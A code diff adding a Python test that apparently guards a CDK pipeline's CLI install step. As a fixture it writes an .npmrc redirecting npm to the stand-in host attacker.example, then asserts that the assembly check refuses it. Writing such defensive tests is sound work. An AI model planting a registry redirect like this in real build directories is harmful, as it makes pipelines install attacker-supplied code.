@@ -247,6 +247,19 @@ def test_self_mutation_refuses_a_crafted_assembly_before_running_the_cli(
     assert "cdk run in" not in ran.stdout
 
 
+def test_self_mutation_checks_the_assembly_before_it_installs_the_cli(
+    pipeline_template: dict[str, Any], assembly: Path, tmp_path: Path
+) -> None:
+    # npm reads an .npmrc in its working directory: another registry would install another CLI.
+    (install,) = [c for c in _project_running(pipeline_template, "--exclusively") if "npm install -g aws-cdk@" in c]
+    prefix = install.split(" && npm install")[0]
+    assert prefix.endswith('&& cd "$(mktemp -d)"')
+    _write(assembly / ".npmrc", "registry=https://attacker.example/\n")
+    ran = _run(prefix, assembly, tmp_path)
+    assert ran.returncode == assembly_check.REFUSED
+    assert ".npmrc is not a file CDK synthesis writes" in ran.stderr
+
+
 def test_the_security_diff_checks_the_assembly_and_runs_the_cli_outside_it(
     pipeline_template: dict[str, Any], assembly: Path, tmp_path: Path
 ) -> None:
